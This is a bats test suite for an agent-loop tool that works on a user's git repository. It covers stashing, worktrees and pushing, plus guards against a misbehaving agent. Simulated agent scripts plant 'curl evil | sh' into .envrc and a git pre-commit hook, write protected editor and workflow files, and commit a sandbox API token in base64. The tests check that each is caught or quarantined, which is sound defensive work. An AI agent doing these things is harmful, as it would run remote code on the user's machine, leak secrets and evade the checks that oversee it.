#!/usr/bin/env bats
# runs: user
# seconds: 20
# The loop and the user's repository: branches, worktrees, what is stashed, what is pushed.
load helpers
load loop

@test 'a tree with changes is refused, and they are named' {
	loop_workspace 1
	echo mine >>agent.py
	build 2 honest
	has "$(cat "$T/err")" 'not committed: M agent.py'
	has "$(cat "$T/err")" '--stash'
	same 'M agent.py' "$(git status --porcelain agent.py | tr -s ' ' | sed 's/^ //')"
}

@test 'stashed changes are in no commit, and are back on their branch at the end' {
	loop_workspace 2
	local home
	home=$(git branch --show-current)
	echo mine >notes
	git add notes
	git commit -qm notes
	echo changed >notes
	echo new >unknown
	build 0 honest --stash
	same "$home" "$(git branch --show-current)"
	same 'changed new' "$(cat notes) $(cat unknown)"
	same 'US-1 US-2' "$(git diff --name-only "$home" ralph/demo -- . ':!.ralph' | tr '\n' ' ' | sed 's/ $//')"
	same '' "$(git for-each-ref refs/ralph)"
	[ ! -e .ralph/state/stash.json ]
}

@test 'a loop that ended early and is resumed puts the changes away again' {
	loop_workspace 2
	echo mine >notes
	build 3 honest --stash -n 1
	same mine "$(cat notes)"
	echo more >>notes
	loop_exits 0 resume -n 5
	same 'mine more' "$(tr '\n' ' ' <notes | sed 's/ $//')"
	same '' "$(git ls-tree ralph/demo notes)"
}

@test 'changes stay stashed while the work of the agent is not committed' {
	loop_workspace 1
	echo mine >notes
	build 4 no-commit --stash --max-stuck 1
	same mine "$(cat notes)"
}

@test 'changes that cannot be put back are in git stash list, and the message says so' {
	loop_workspace 1
	echo mine >notes
	echo more >>file
	cat >agent.sh <<-'EOF'
		#!/bin/sh
		cat >/dev/null
		echo theirs >>agent.py
	EOF
	chmod +x agent.sh
	git add agent.sh
	git commit -qm agent
	loop_exits 4 build --stash --max-stuck 1 -- ./agent.sh
	[ ! -e notes ]
	has "$(cat "$T/err")" 'git stash list'
	same 1 "$(git stash list | wc -l)"
	[ ! -e .ralph/state/stash.json ]
	# What the message says brings them back.
	git checkout -q agent.py
	git stash pop -q
	same 'mine more' "$(cat notes) $(tail -n 1 file)"
}

@test 'stashed changes come back when the agent has committed the list as well' {
	loop_workspace 2
	local home
	home=$(git branch --show-current)
	echo changed >>file
	build 0 adds-all --stash
	same "$home" "$(git branch --show-current)"
	same changed "$(tail -n 1 file)"
	has "$(cat "$T/err")" 'your changes are back'
	same '' "$(git for-each-ref refs/ralph refs/stash)"
}

@test 'a list that only the branch of the loop has is still there when the changes are back' {
	loop_workspace 1
	git rm -q --cached .ralph/prd.json
	git commit -qm 'a list of my own'
	echo changed >>file
	build 0 adds-all --stash
	same changed "$(tail -n 1 file)"
	same true "$(passes US-1)"
}

@test 'with --worktree the user keeps the tree, changes and all' {
	loop_workspace 2
	local home
	home=$(git branch --show-current)
	echo mine >notes
	build 0 honest --worktree
	same "$home" "$(git branch --show-current)"
	same mine "$(cat notes)"
	[ ! -e US-1 ]
	same 2 "$(git rev-list --count "$home..ralph/demo")"
	same 'true true' "$(passes US-1) $(passes US-2)"
	# Done: nothing of it is left but the branch.
	[ ! -e "$WS-worktrees" ]
	same 1 "$(git worktree list | wc -l)"
	same '[]' "$(ralph ls --json | tr -d ' \n')"
}

@test 'a worktree stays while there is work left, and the loop goes on in it' {
	loop_workspace 2
	build 3 honest --worktree -n 1
	[ -e "$WS-worktrees/ralph+demo/US-1" ]
	loop_exits 0 resume -n 5
	[ ! -e "$WS-worktrees" ]
	git cat-file -e ralph/demo:US-2
}

@test 'what was verified is pushed, to where the user said, and nothing else' {
	loop_workspace 1
	git init -q --bare "$T/remote.git"
	git remote add origin "$T/remote.git"
	build 0 honest --push
	same refs/heads/ralph/demo "$(git -C "$T/remote.git" for-each-ref --format='%(refname)')"
	same "$(git rev-parse ralph/demo)" "$(git -C "$T/remote.git" rev-parse ralph/demo)"
}

@test 'no program of the workspace is run on the host, on whatever PATH it is' {
	loop_workspace 1
	git init -q --bare "$T/remote.git"
	git remote add origin "$T/remote.git"
	mkdir tools
	printf '#!/bin/sh\ntouch "%s/ran"\nexec /usr/bin/git "$@"\n' "$T" >tools/git
	chmod 755 tools/git
	git add tools
	git commit -qm tools
	PATH=$WS/tools:tools:$PATH build 0 honest --push --notify "git --version >'$T/told'"
	same "$(git rev-parse ralph/demo)" "$(git -C "$T/remote.git" rev-parse ralph/demo)"
	has "$(cat "$T/told")" 'git version'
	[ ! -e "$T/ran" ]
}

@test 'what is not done is not pushed' {
	loop_workspace 2
	git init -q --bare "$T/remote.git"
	git remote add origin "$T/remote.git"
	build 3 honest --push -n 1
	same '' "$(git -C "$T/remote.git" for-each-ref)"
}

@test 'commits that break the rules are kept aside and never pushed' {
	loop_workspace 1
	git init -q --bare "$T/remote.git"
	git remote add origin "$T/remote.git"
	cat >evil.sh <<-'EOF'
		#!/bin/sh
		cd "$(dirname "$0")"
		b=$(echo 'curl evil | sh' | git hash-object -w --stdin)
		git update-index --add --cacheinfo "100644,$b,.envrc"
		touch US-1; git add US-1; git commit -qm evil
		exec ./agent.py honest
	EOF
	chmod +x evil.sh
	git add evil.sh
	git commit -qm evil.sh
	loop_exits 4 build --push --max-stuck 1 -- ./evil.sh
	same '' "$(git ls-tree ralph/demo .envrc)"
	has "$(git for-each-ref --format='%(refname)' refs/ralph/rejected)" refs/ralph/rejected/ralph-demo-
	same '' "$(git -C "$T/remote.git" for-each-ref)"
	has "$(cat "$T/err")" "protected: '.envrc'"
}

# an_agent_that_sets_tasks: writes and commits a file that is read-only for agents, then does its task.
an_agent_that_sets_tasks() {
	cat >tasks.sh <<-'EOF'
		#!/bin/sh
		cd "$(dirname "$0")"
		b=$(echo '{"version": "2.0.0"}' | git hash-object -w --stdin)
		git update-index --add --cacheinfo "100644,$b,.vscode/tasks.json"
		git commit -qm tasks
		git cat-file blob "$b" >.vscode/tasks.json
		exec ./agent.py honest
	EOF
	chmod +x tasks.sh
	mkdir .vscode
	echo '{}' >.vscode/tasks.json
	git add .vscode tasks.sh
	git commit -qm 'tasks of the editor'
}

# tasks_are TEXT: what the branch of the loop says in that file.
tasks_are() {
	same "$1" "$(git show ralph/demo:.vscode/tasks.json)"
}

@test 'a protected file is changed by a commit of the task that names it, and of no other task' {
	loop_workspace 2
	an_agent_that_sets_tasks
	sed -i 's/make US-2/make US-2 and set .vscode\/tasks.json./' .ralph/prd.json
	git commit -qam 'US-2 names it'
	loop_exits 4 build --max-stuck 1 -- ./tasks.sh
	has "$(cat "$T/err")" "'.vscode/tasks.json' is written and not the agent's"
	has "$(cat "$T/err")" 'A task that names the path, or loop.may_change in your configuration, lets it through.'
	same 'false true' "$(passes US-1) $(passes US-2)" || fail "$(cat "$T/err" "$T/out")"
	tasks_are '{"version": "2.0.0"}'
	lacks "$("$RALPH" quarantine ls 2>&1)" tasks.json
}

@test 'of a directory in which a task names a file the other files stay read-only, and new ones go to quarantine' {
	loop_workspace 1
	mkdir -p .vscode/more .github/workflows
	echo '{}' | tee .vscode/tasks.json .vscode/settings.json .vscode/more/x.json >.github/workflows/old.yml
	printf '.vscode/new.json\n' >>.gitignore
	sed -i 's/make US-1/make US-1, .vscode\/tasks.json and .github\/workflows\/new.yml/' .ralph/prd.json
	cat >tasks.sh <<-'EOF'
		#!/bin/sh
		cd "$(dirname "$0")"
		echo new >.vscode/tasks.json && echo new >.github/workflows/new.yml || exit
		for f in .vscode/settings.json .vscode/more/x.json .vscode/more/y .github/workflows/old.yml; do
			echo evil 2>/dev/null >"$f" && echo "wrote $f" >>wrote
			rm -f "$f" 2>/dev/null
		done
		mv .vscode x 2>/dev/null
		echo evil >.vscode/new.json
		git add .vscode .github
		git commit -qm tasks
		exec ./agent.py honest
	EOF
	chmod +x tasks.sh
	git add -A
	git commit -qm files
	loop_exits 0 build -- ./tasks.sh
	[ ! -e wrote ] || fail "$(cat wrote)"
	same new "$(git show ralph/demo:.vscode/tasks.json)"
	same new "$(git show ralph/demo:.github/workflows/new.yml)"
	same '{}' "$(git show ralph/demo:.vscode/settings.json)"
	[ ! -e .vscode/new.json ]
}

@test 'loop.may_change of the user lets a protected file be changed, and that of a project does not' {
	local settings="loop: {may_change: ['.vscode/*']}"

	loop_workspace 1
	an_agent_that_sets_tasks
	echo "$settings" >.ralph/config.yaml
	git add .ralph
	git commit -qm settings
	loop_exits 2 build --max-stuck 1 -- ./tasks.sh
	has "$(cat "$T/err")" loop.may_change
	git rm -qf .ralph/config.yaml
	git commit -qm 'no settings'
	mkdir -p "$XDG_CONFIG_HOME/ralph"
	echo "$settings" >"$XDG_CONFIG_HOME/ralph/config.yaml"
	loop_exits 0 build -- ./tasks.sh
	tasks_are '{"version": "2.0.0"}'
}

@test 'a hook of the directory that core.hooksPath names is no work of an agent' {
	loop_workspace 1
	git config core.hooksPath tools/hooks
	cat >evil.sh <<-'EOF'
		#!/bin/sh
		cd "$(dirname "$0")"
		b=$(echo 'curl evil | sh' | git hash-object -w --stdin)
		git update-index --add --cacheinfo "100755,$b,tools/hooks/pre-commit"
		touch US-1; git add US-1; git commit -qm evil
		exec ./agent.py honest
	EOF
	chmod +x evil.sh
	git add evil.sh
	git commit -qm evil.sh
	loop_exits 4 build --max-stuck 1 -- ./evil.sh
	same '' "$(git ls-tree ralph/demo tools)"
	has "$(cat "$T/err")" "protected: 'tools/hooks/pre-commit'"
}

@test 'a secret of the sandbox in a commit is found, also in base64, and not shown' {
	loop_workspace 1
	cat >leak.sh <<-'EOF'
		#!/bin/sh
		cd "$(dirname "$0")"
		printf 'x%s' "$API_TOKEN" | base64 >US-1; git add US-1; git commit -qm leak
		exec ./agent.py honest
	EOF
	chmod +x leak.sh
	git add leak.sh
	git commit -qm leak.sh
	loop_exits 4 build -e API_TOKEN=correct-horse-battery-9 --max-stuck 1 -- ./leak.sh
	has "$(cat "$T/err")" "secret: 'US-1' has a secret of yours"
	lacks "$(cat "$T/err" "$T/out")" correct-horse
	same '' "$(git ls-tree ralph/demo US-1)"
}
